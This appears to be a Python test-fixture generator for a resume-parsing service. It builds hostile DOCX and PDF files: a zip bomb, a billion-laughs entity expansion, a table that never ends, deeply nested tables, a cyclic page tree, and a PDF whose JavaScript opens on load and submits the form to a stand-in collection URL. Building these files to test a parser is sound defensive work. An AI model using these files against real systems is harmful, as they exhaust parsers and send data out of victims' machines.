"""Makes the hostile files that no editor makes by itself. Argument: the folder they go to."""
import sys
import zipfile
from pathlib import Path

out = Path(sys.argv[1])
W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
TYPES = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
         '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
         '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>')
RELATIONS = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
             '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>')


def docx(name, chunks):
    """`chunks` are strings that together are word/document.xml."""
    with zipfile.ZipFile(out / name, 'w', zipfile.ZIP_DEFLATED, compresslevel=9) as package:
        package.writestr('[Content_Types].xml', TYPES)
        package.writestr('_rels/.rels', RELATIONS)
        with package.open('word/document.xml', 'w', force_zip64=True) as part:
            for chunk in chunks:
                part.write(chunk.encode())


START = f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{W}"><w:body>'
END = '</w:body></w:document>'
text = lambda words: f'<w:p><w:r><w:t>{words}</w:t></w:r></w:p>'
docx('bomb.docx', [START, text('炸弹样本')] + [text('x' * 100_000)] * 1700 + [END])
entities = ''.join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
docx('entities.docx', [f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY e0 "样本">{entities}]>', START.split('?>', 1)[1], text('&e9;'), END])
row = '<w:tr>' + ''.join(f'<w:tc><w:tcPr/>{text(cell)}</w:tc>' for cell in ('2020.01-2020.02', '示例公司', '示例职位', '示例内容')) + '</w:tr>'
docx('endless-table.docx', [START, '<w:tbl><w:tblPr/>'] + [row * 100] * 600 + ['</w:tbl>', END])
depth = 4000
docx('nested-tables.docx', [START] + ['<w:tbl><w:tr><w:tc>'] * depth + [text('最里面的示例')] + ['<w:p/></w:tc></w:tr></w:tbl>'] * depth + [END])


def pdf(name, bodies):
    """A PDF of the objects given, numbered from 1; object 1 is the catalogue."""
    data, places = b'%PDF-1.7\n', []
    for number, body in enumerate(bodies, 1):
        places.append(len(data))
        data += f'{number} 0 obj\n{body}\nendobj\n'.encode('latin-1')
    table = ''.join(f'{place:010d} 00000 n \n' for place in places)
    data += f'xref\n0 {len(bodies) + 1}\n0000000000 65535 f \n{table}trailer\n<</Size {len(bodies) + 1}/Root 1 0 R>>\nstartxref\n{len(data)}\n%%EOF\n'.encode()
    (out / name).write_bytes(data)


FONT = '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>'
stream = lambda code: f'<</Length {len(code)}>>\nstream\n{code}\nendstream'
pdf('javascript.pdf', [
    '<</Type/Catalog/Pages 2 0 R/OpenAction 6 0 R>>', '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>/AA<</O 6 0 R>>>>',
    stream('BT /F 14 Tf 60 780 Td 20 TL (Sample Script) Tj T* (script@example.com) Tj T* (Example Company, Tester, 2020.01 - 2021.01) Tj ET'), FONT,
    '<</Type/Action/S/JavaScript/JS(app.alert\\("opened"\\); this.submitForm\\({cURL: "https://example.com/collect"}\\);)>>'])
pdf('page-loop.pdf', [
    '<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[3 0 R 2 0 R]/Count 1000000>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>',
    stream('BT /F 14 Tf 60 780 Td (Sample Loop) Tj ET'), FONT])
count = 500
pdf('500-pages.pdf', ['<</Type/Catalog/Pages 2 0 R>>', f'<</Type/Pages/Kids[{" ".join(f"{number} 0 R" for number in range(4, 4 + count))}]/Count {count}>>', FONT]
    + [f'<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents {number + count} 0 R/Resources<</Font<</F 3 0 R>>>>>>' for number in range(4, 4 + count)]
    + [stream(f'BT /F 12 Tf 60 780 Td 18 TL (Page {page} of a resume without an end) Tj T* (2020.01 - 2021.01 Example Company {page} Tester) Tj ET') for page in range(1, count + 1)])
(out / 'empty.pdf').write_bytes(b'')
